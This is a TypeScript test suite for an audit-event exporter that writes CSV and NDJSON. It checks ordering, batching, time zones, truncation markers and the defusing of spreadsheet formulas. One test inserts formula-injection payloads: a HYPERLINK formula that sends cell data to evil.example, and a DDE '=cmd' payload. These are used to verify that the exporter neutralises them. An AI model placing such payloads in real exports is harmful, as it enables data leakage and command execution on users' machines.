import { beforeAll, describe, expect, it } from "vitest";
import { db } from "@/lib/db/client";
import { exportEvents, exportFields, incompleteMarker } from "./export-events";
import { formatInstant } from "./format-time";
import { emptyFilter, withCondition } from "./filters";
import { seedEvents } from "./test-events";
import { DEFAULT_COLUMNS, EVENT_COLUMNS } from "./view";

const all = emptyFilter({ kind: "relative", last: "all" });

beforeAll(async () => {
  await seedEvents(1_100, 8);
}, 120_000);

/** A small RFC 4180 reader: enough to check what Excel or a script would read back. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      }
      else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ",") {
      row.push(cell);
      cell = "";
    } else if (ch === "\r" && text[i + 1] === "\n") {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
      i++;
    }
    else cell += ch;
  }
  return rows;
}

const read = async (stream: ReadableStream<Uint8Array>) => new Response(stream).text();

describe("exportEvents", () => {
  it("writes every matching row as CSV, in the table's order, across batches", async () => {
    const ends: Array<[number, boolean]> = [];
    const text = await read(await exportEvents({ filter: all, columns: DEFAULT_COLUMNS, sort: "newest", format: "csv", batchSize: 250, onEnd: (n, ok) => ends.push([n, ok]) }));
    const [header, ...rows] = parseCsv(text);
    expect(header).toEqual(exportFields(DEFAULT_COLUMNS).map((f) => f.name));
    const gids = await db().$queryRaw<{ gid: string }[]>`SELECT gid FROM audit_event ORDER BY created_at DESC, gid DESC`;
    expect(rows.map((r) => r[0])).toEqual(gids.map((g) => g.gid));
    expect(rows.every((r) => r.length === header!.length)).toBe(true);
    expect(ends).toEqual([[gids.length, true]]);
  });

  it("keeps cell values intact (quotes, commas, JSON details) and defuses formulas", async () => {
    await db().$executeRaw`INSERT INTO audit_event (gid, workspace_gid, created_at, event_type, actor_type, actor_name, details, raw)
      VALUES ('77', '1', now(), 'task_deleted', 'user', '=HYPERLINK("x")', ${JSON.stringify({ old_value: 'a, "b"\nc' })}::jsonb, '{}'::json)`;
    const filter = withCondition(all, { dimension: "text", value: "77", exclude: false });
    const [, row] = parseCsv(await read(await exportEvents({ filter, columns: ["actor", "details"], sort: "newest", format: "csv" })));
    const fields = exportFields(["actor", "details"]).map((f) => f.name);
    const cell = (name: string) => row![fields.indexOf(name)];
    expect(cell("actor_name")).toBe(`'=HYPERLINK("x")`);
    expect(JSON.parse(cell("details")!)).toEqual({ old_value: 'a, "b"\nc' });
  });

  it("case 4: defuses a formula in every cell of upstream origin, not only the names", async () => {
    const formulas = { subtype: '=HYPERLINK("http://evil.example/?"&A1,"x")', auth: "=cmd|' /C calc'!A0" };
    const v = { tab: "\tname-formula-78", cr: "\rmail" };
    await db().$executeRaw`INSERT INTO audit_event (gid, workspace_gid, created_at, event_type, event_category, actor_type, actor_gid, actor_name, actor_email,
        resource_type, resource_subtype, resource_gid, resource_name, resource_email, context_type, client_ip, user_agent, auth_method, oauth_app_name, details, raw)
      VALUES ('-78', '+1', now(), '=event()', '@category', '-user', '+2', '=a', '@b', '+type', ${formulas.subtype}, '-3', ${v.tab}, ${v.cr}, '=web', '10.0.0.1',
        '=ua', ${formulas.auth}, '@app', '"=json"'::jsonb, '{}'::json)`;
    // The address's location is stored data too (its numbers are PostgreSQL's own printing, left as numbers).
    await db().$executeRaw`INSERT INTO ip_location (ip, source, country, region, city, latitude, longitude, asn, as_org, hosting)
      VALUES ('10.0.0.1', 'test', '=DE', '+region', '-city', -41.5, -70.25, 64512, '@org', true) ON CONFLICT (ip) DO NOTHING`;
    const filter = withCondition(all, { dimension: "text", value: "name-formula-78", exclude: false });
    const [header, row] = parseCsv(await read(await exportEvents({ filter, columns: [...EVENT_COLUMNS], sort: "newest", format: "csv" })));
    const cells = Object.fromEntries(header!.map((name, i) => [name, row![i]!]));
    expect(cells.resource_subtype).toBe(`'${formulas.subtype}`);
    expect(cells.auth_method).toBe(`'${formulas.auth}`);
    for (const [name, value] of Object.entries(cells)) {
      if (["created_at", "time_zone", "client_ip", "details", "latitude", "longitude", "asn", "hosting"].includes(name)) continue;
      expect(value, name).toMatch(/^'[-=+@\t\r]/);
    }
    // A JSON string value starts with a quote, so it reads as text as it is.
    expect(cells.details).toBe('"=json"');
    expect([cells.latitude, cells.longitude, cells.asn, cells.hosting]).toEqual(["-41.5", "-70.25", "64512", "true"]);
  });

  it("case 6: writes times in the chosen zone with their offset, and says the zone on every row", async () => {
    const truth = new Map((await db().$queryRaw<{ gid: string; at: Date }[]>`SELECT gid, created_at AS at FROM audit_event`).map((r) => [r.gid, r.at.getTime()]));
    const [header, ...rows] = parseCsv(await read(await exportEvents({ filter: all, columns: ["time", "event"], sort: "newest", format: "csv", zone: "America/New_York" })));
    expect(header).toEqual(["gid", "created_at", "time_zone", "event_type", "event_category"]);
    expect(rows.length).toBe(truth.size);
    for (const [gid, at, zone] of rows) {
      expect(zone).toBe("America/New_York");
      expect(at).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}-0[45]:00$/);
      // The same instant as stored, and the wall clock New York showed then.
      // A gid that starts like a formula ("-78", above) is written defused.
      expect(Date.parse(at!), gid).toBe(truth.get(gid!.replace(/^'/, "")));
      expect(at!.slice(0, 19).replace("T", " ")).toBe(formatInstant(at!, "America/New_York").slice(0, 19));
    }
    const lines = (await read(await exportEvents({ filter: all, columns: ["time"], sort: "oldest", format: "ndjson", zone: "Asia/Kolkata" }))).trimEnd().split("\n");
    const first = JSON.parse(lines[0]!) as Record<string, string>;
    expect(first.time_zone).toBe("Asia/Kolkata");
    expect(first.created_at).toMatch(/\+05:30$/);
    expect(Date.parse(first.created_at!)).toBe(truth.get(first.gid!));
    // UTC by default, named too.
    const [utcHeader, utcRow] = parseCsv(await read(await exportEvents({ filter: all, columns: ["time"], sort: "newest", format: "csv" })));
    expect(utcHeader).toEqual(["gid", "created_at", "time_zone"]);
    expect(utcRow![1]).toMatch(/Z$/);
    expect(utcRow![2]).toBe("UTC");
  });

  it("writes NDJSON objects with the chosen columns' fields", async () => {
    const text = await read(await exportEvents({ filter: all, columns: [...EVENT_COLUMNS], sort: "oldest", format: "ndjson", batchSize: 400 }));
    const lines = text.trimEnd().split("\n").map((l) => JSON.parse(l) as Record<string, unknown>);
    const count = Number((await db().$queryRaw<{ n: bigint }[]>`SELECT count(*) AS n FROM audit_event`)[0]!.n);
    expect(lines).toHaveLength(count);
    expect(Object.keys(lines[0]!)).toEqual(exportFields(EVENT_COLUMNS).map((f) => f.name));
    expect(String(lines[0]!.created_at) <= String(lines[1]!.created_at)).toBe(true);
  });

  it("ends a batch at its byte budget, long before its row count, and still writes every row", async () => {
    const whole = await read(await exportEvents({ filter: all, columns: DEFAULT_COLUMNS, sort: "oldest", format: "ndjson" }));
    const reader = (await exportEvents({ filter: all, columns: DEFAULT_COLUMNS, sort: "oldest", format: "ndjson", batchSize: 10_000, batchBytes: 20_000 })).getReader();
    const chunks: string[] = [];
    for (let chunk = await reader.read(); !chunk.done; chunk = await reader.read()) chunks.push(new TextDecoder().decode(chunk.value));
    expect(chunks.join("")).toBe(whole);
    // One chunk a batch: about 20 KB each, where the row count alone would make one batch.
    expect(chunks.length).toBeGreaterThan(whole.length / 40_000);
    expect(Math.max(...chunks.map((c) => c.length))).toBeLessThan(40_000);
  });

  it("case 6: fails before the first byte when the first read fails", async () => {
    const ends: Array<[number, boolean, unknown]> = [];
    await db().$executeRawUnsafe("ALTER TABLE audit_event RENAME TO audit_event_away");
    try {
      await expect(exportEvents({ filter: all, columns: DEFAULT_COLUMNS, sort: "newest", format: "csv", onEnd: (n, ok, e) => ends.push([n, ok, e]) })).rejects.toThrow();
    } finally {
      await db().$executeRawUnsafe("ALTER TABLE audit_event_away RENAME TO audit_event");
    }
    expect(ends).toEqual([]);
  });

  it.each(["csv", "ndjson"] as const)("case 6: a %s file whose reading fails later ends with a line saying it is cut short, and the stream errors", async (format) => {
    const ends: Array<[number, boolean, unknown]> = [];
    const stream = await exportEvents({ filter: all, columns: DEFAULT_COLUMNS, sort: "newest", format, batchSize: 100, onEnd: (n, ok, e) => ends.push([n, ok, e]) });
    await db().$executeRawUnsafe("ALTER TABLE audit_event RENAME TO audit_event_away");
    let text = "";
    let failure: unknown;
    try {
      const reader = stream.getReader();
      const decoder = new TextDecoder();
      for (;;) {
        const { done, value } = await reader.read();
        if (done) break;
        text += decoder.decode(value, { stream: true });
      }
    } catch (error) {
      failure = error;
    } finally {
      await db().$executeRawUnsafe("ALTER TABLE audit_event_away RENAME TO audit_event");
    }
    expect(failure, "the stream errors: the HTTP answer is broken off").toBeDefined();
    // The batch after the first may have been asked for before the table went away.
    expect(ends).toEqual([[expect.any(Number), false, expect.anything()]]);
    const rows = ends[0]![0];
    expect(rows % 100 === 0 && rows > 0 && rows < 1_100).toBe(true);
    const lines = text.trimEnd().split(format === "csv" ? "\r\n" : "\n");
    expect(lines.at(-1)).toBe(incompleteMarker(format, rows));
    expect(lines.at(-1)).toContain("EXPORT INCOMPLETE");
    expect(lines).toHaveLength(rows + (format === "csv" ? 2 : 1));
  });

  it("stops reading when the client goes away", async () => {
    const ends: Array<[number, boolean]> = [];
    const stream = await exportEvents({ filter: all, columns: DEFAULT_COLUMNS, sort: "newest", format: "csv", batchSize: 100, onEnd: (n, ok) => ends.push([n, ok]) });
    const reader = stream.getReader();
    await reader.read();
    await reader.read();
    await reader.cancel();
    expect(ends).toHaveLength(1);
    expect(ends[0]![1]).toBe(false);
  });
});
